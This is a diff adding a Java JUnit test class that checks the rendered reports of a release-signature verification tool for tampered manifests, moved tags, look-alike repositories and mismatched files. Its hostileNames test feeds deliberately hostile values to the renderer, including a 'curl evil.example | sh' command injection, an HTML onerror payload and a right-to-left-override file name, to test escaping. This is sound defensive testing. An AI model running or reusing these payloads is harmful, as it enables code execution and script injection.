@@ -1,0 +1,349 @@
+package dev.countersign.report;
+
+import static dev.countersign.report.Verdicts.V0_0_13;
+import static dev.countersign.report.Verdicts.V1_2_0;
+import static dev.countersign.report.Verdicts.brokenOff;
+import static dev.countersign.report.Verdicts.contents;
+import static dev.countersign.report.Verdicts.digest;
+import static dev.countersign.report.Verdicts.entry;
+import static dev.countersign.report.Verdicts.set;
+import static dev.countersign.report.Verdicts.verdict;
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import dev.countersign.report.CheckReport.Conclusion;
+import dev.countersign.verification.Check;
+import dev.countersign.verification.ContentsResult;
+import dev.countersign.verification.EntryResult.DiffersFromTag;
+import dev.countersign.verification.EntryResult.MatchesTag;
+import dev.countersign.verification.EntryResult.MissingFromTag;
+import dev.countersign.verification.EntryResult.NotAFile;
+import dev.countersign.verification.Finding;
+import dev.countersign.verification.ReasonCode;
+import dev.countersign.verification.SetVerdict;
+import dev.countersign.verification.SigningFacts;
+import dev.countersign.verification.TreeEntry;
+import dev.countersign.verification.Verdict;
+import java.nio.file.Path;
+import java.time.Instant;
+import java.util.List;
+import java.util.Locale;
+import java.util.Map;
+import java.util.Optional;
+import org.junit.jupiter.api.Test;
+
+/** Every message as a person reads it, in {@code src/test/resources/golden}. */
+class CheckReportsTest {
+  private static final Path GOLDEN = Path.of("src/test/resources/golden");
+  private static final String OTHER_COMMIT = "1f9439c395f4c25c9a7dd54b774eb73cb2898996";
+
+  private static final Awaited AWAITED =
+      new Awaited(
+          V0_0_13,
+          "master",
+          List.of("checksums-*.txt"),
+          Instant.parse("2023-02-13T15:16:20Z"),
+          Instant.parse("2023-02-13T15:46:20Z"));
+
+  @Test
+  void greenWithALegacyBundle() {
+    check("green-legacy-promise", CheckReports.verdict(Verdicts.pyconfr()));
+  }
+
+  @Test
+  void greenWithACurrentBundle() {
+    check("green", CheckReports.verdict(verdict(set("checksums-1.txt", contents("a.py", "b.py")))));
+  }
+
+  @Test
+  void greenWithAnUnlistedFile() {
+    ContentsResult contents =
+        new ContentsResult(contents("a.py", "b.py").entries(), List.of("docs/notes.md", "x.sh"));
+    check(
+        "green-unlisted-warning",
+        CheckReports.verdict(
+            verdict(
+                set(
+                    "checksums-1.txt",
+                    contents,
+                    Finding.warning(
+                        Check.CONTENTS,
+                        ReasonCode.FILE_UNLISTED,
+                        "every file of the tag is listed",
+                        "docs/notes.md, x.sh")))));
+  }
+
+  @Test
+  void waiting() {
+    check("waiting", CheckReports.waiting(AWAITED));
+  }
+
+  @Test
+  void timedOut() {
+    check("timed-out", CheckReports.timedOut(AWAITED));
+  }
+
+  @Test
+  void retrying() {
+    check(
+        "retrying",
+        CheckReports.retrying(
+            "v1.2.0",
+            "GitHub did not answer: api.github.com returned 502.",
+            Instant.parse("2025-09-01T10:34:10Z")));
+  }
+
+  @Test
+  void tamperedManifest() {
+    check(
+        "red-manifest-tampered",
+        CheckReports.verdict(
+            verdict(
+                set(
+                    "checksums-1.txt",
+                    contents("a.py"),
+                    Finding.failed(
+                        Check.SIGNATURE,
+                        ReasonCode.DIGEST_MISMATCH,
+                        "SHA-256 " + digest("signed"),
+                        "SHA-256 " + digest("tampered"))))));
+  }
+
+  @Test
+  void movedTag() {
+    check(
+        "red-tag-moved",
+        CheckReports.verdict(
+            verdict(
+                set(
+                    "checksums-1.txt",
+                    contents("a.py", "b.py"),
+                    Finding.failed(
+                        Check.COMMIT, ReasonCode.TAG_MOVED, Verdicts.COMMIT, OTHER_COMMIT)))));
+  }
+
+  @Test
+  void otherRepositoryWithALookAlikeName() {
+    SigningFacts facts = Verdicts.modernFacts(Verdicts.release("octo-0rg/octo-app", "v1.2.0"));
+    check(
+        "red-repository",
+        CheckReports.verdict(
+            verdict(
+                set(
+                    "checksums-1.txt",
+                    facts,
+                    contents("a.py"),
+                    Finding.failed(
+                        Check.SIGNER,
+                        ReasonCode.SIGNER_MISMATCH,
+                        Verdicts.identity(V1_2_0),
+                        facts.subjectAlternativeName()),
+                    Finding.failed(
+                        Check.REPOSITORY,
+                        ReasonCode.REPOSITORY_MISMATCH,
+                        "octo-org/octo-app",
+                        "octo-оrg/octo-app")))));
+  }
+
+  @Test
+  void otherTrigger() {
+    check(
+        "red-trigger",
+        CheckReports.verdict(
+            verdict(
+                set(
+                    "checksums-1.txt",
+                    contents("a.py"),
+                    Finding.failed(
+                        Check.TRIGGER,
+                        ReasonCode.TRIGGER_MISMATCH,
+                        "release",
+                        "workflow_dispatch")))));
+  }
+
+  @Test
+  void differingAndMissingFiles() {
+    ContentsResult contents =
+        new ContentsResult(
+            List.of(
+                new MatchesTag(entry(1, "a.py")),
+                new DiffersFromTag(entry(2, "src/b.py"), digest("b at the tag")),
+                new DiffersFromTag(entry(3, "src/c.py"), digest("c at the tag")),
+                new MissingFromTag(entry(4, "dist/app.whl")),
+                new NotAFile(entry(5, "current"), TreeEntry.Kind.SYMBOLIC_LINK)),
+            List.of());
+    check(
+        "red-contents",
+        CheckReports.verdict(
+            verdict(
+                set(
+                    "checksums-1.txt",
+                    contents,
+                    differing("src/b.py"),
+                    differing("src/c.py"),
+                    Finding.failed(
+                        Check.CONTENTS,
+                        ReasonCode.FILE_MISSING,
+                        "a file at the tag",
+                        "dist/app.whl")))));
+  }
+
+  @Test
+  void unreadableBundle() {
+    check(
+        "red-bundle-unreadable",
+        CheckReports.verdict(
+            verdict(
+                brokenOff(
+                    "checksums-1.txt",
+                    Finding.failed(
+                        Check.MATERIALS,
+                        ReasonCode.BUNDLE_UNREADABLE,
+                        "a Sigstore bundle",
+                        "checksums-1.txt.sigstore.json: JSON ends at line 1, column 912")))));
+  }
+
+  @Test
+  void oneOfSeveralSetsIsBad() {
+    check(
+        "red-one-of-several",
+        CheckReports.verdict(
+            verdict(
+                set("checksums-1.txt", contents("a.py")),
+                set(
+                    "checksums-2.txt",
+                    contents("b.py"),
+                    Finding.failed(
+                        Check.TAG, ReasonCode.TAG_MISMATCH, "refs/tags/v1.2.0", "refs/tags/v1.1.0"),
+                    Finding.warning(
+                        Check.REPOSITORY,
+                        ReasonCode.CLAIM_MISSING,
+                        "repository id 600000000",
+                        "no id: identity by name only")))));
+  }
+
+  @Test
+  void hostileNames() {
+    String path = "a|b`c``\n<img src=x onerror=alert(1)>\u202Egnp.exe";
+    SetVerdict set =
+        new SetVerdict(
+            "checksums-@octocat #1 [x](https://evil.example).txt",
+            Optional.of(
+                new SigningFacts(
+                    "https://github.com/evil/../octo-org' && curl evil.example | sh",
+                    Map.of(
+                        "1.3.6.1.4.1.57264.1.4", "</details> @octo-org/security www.evil.example",
+                        "1.2.3", "\u0000\u0007"),
+                    digest("hostile"),
+                    Instant.parse("2025-09-01T10:04:10Z"),
+                    Instant.parse("2025-09-01T10:14:10Z"),
+                    Optional.empty(),
+                    Optional.of(7L),
+                    Optional.of("https://rekor.evil.example"),
+                    Optional.empty())),
+            List.of(
+                Finding.failed(
+                    Check.SIGNER,
+                    ReasonCode.SIGNER_MISMATCH,
+                    Verdicts.identity(V1_2_0),
+                    "@octocat closes #1 | **bold** ![x](https://evil.example/x.png)"),
+                Finding.failed(Check.CONTENTS, ReasonCode.FILE_MISSING, path, "x".repeat(2_000))),
+            new ContentsResult(
+                List.of(new MissingFromTag(entry(1, path))), List.of("~~~\n# heading")));
+    check(
+        "red-hostile-names",
+        CheckReports.verdict(
+            new Verdict(
+                Verdicts.release("octo-org/octo-app", "v1<b>@octocat</b>#2\u2066"), List.of(set))));
+  }
+
+  @Test
+  void aCheckThatWasNotMadeIsNeitherGreenNorRed() {
+    SetVerdict whole = set("checksums-1.txt", contents("a.py"));
+    SetVerdict withoutTime =
+        new SetVerdict(
+            whole.manifestPath(),
+            whole.signing(),
+            whole.findings().stream().filter(f -> f.check() != Check.SIGNING_TIME).toList(),
+            whole.contents());
+    CheckReport report = CheckReports.verdict(verdict(withoutTime));
+    assertThat(report.conclusion()).contains(Conclusion.ACTION_REQUIRED);
+    check("undecided-check-not-made", report);
+  }
+
+  @Test
+  void brokenPolicy() {
+    check(
+        "broken-policy",
+        CheckReports.brokenPolicy(
+            "v1.2.0",
+            ".github/countersign.yml",
+            List.of(
+                new BrokenLine(
+                    7, 5, "contents.unlisted: \"warning\" is not one of fail, warn, ignore"),
+                new BrokenLine(12, 1, "unknown key \"isue\", did you mean \"issue\"?"))));
+  }
+
+  @Test
+  void couldNotVerifyInTime() {
+    check(
+        "could-not-verify-timed-out",
+        CheckReports.couldNotVerify(
+            "v1.2.0",
+            Conclusion.TIMED_OUT,
+            "GitHub did not answer for 2 hours.",
+            "Wait until GitHub works again."));
+  }
+
+  @Test
+  void couldNotVerifyForALimit() {
+    check(
+        "could-not-verify-limit",
+        CheckReports.couldNotVerify(
+            "v1.2.0",
+            Conclusion.ACTION_REQUIRED,
+            "The file assets/video@4k.mp4 has 900 MB, more than the 512 MB that are read.",
+            "Leave this file out of the manifest."));
+  }
+
+  @Test
+  void internalError() {
+    check("internal-error", CheckReports.internalError("v1.2.0", "4b6f3c1e-release"));
+  }
+
+  @Test
+  void neverCallsAnUndecidedReleaseGoodOrBad() {
+    for (Conclusion decided : List.of(Conclusion.SUCCESS, Conclusion.FAILURE)) {
+      assertThatThrownBy(() -> CheckReports.couldNotVerify("v1", decided, "Why.", "What."))
+          .isInstanceOf(IllegalArgumentException.class)
+          .hasMessageContaining(decided.name());
+    }
+  }
+
+  private static Finding differing(String path) {
+    return Finding.failed(
+        Check.CONTENTS,
+        ReasonCode.CONTENTS_DIFFER,
+        path + " as listed",
+        path + " with other bytes");
+  }
+
+  private static void check(String name, CheckReport report) {
+    String conclusion =
+        report.conclusion().map(Conclusion::name).orElse("IN_PROGRESS").toLowerCase(Locale.ROOT);
+    Golden.assertMatches(
+        GOLDEN.resolve(name + ".md"),
+        """
+        > Check run: %s
+        >
+        > Title: %s
+
+        %s
+
+        ---
+
+        %s
+        """
+            .formatted(conclusion, report.title(), report.summary(), report.text()));
+  }
+}
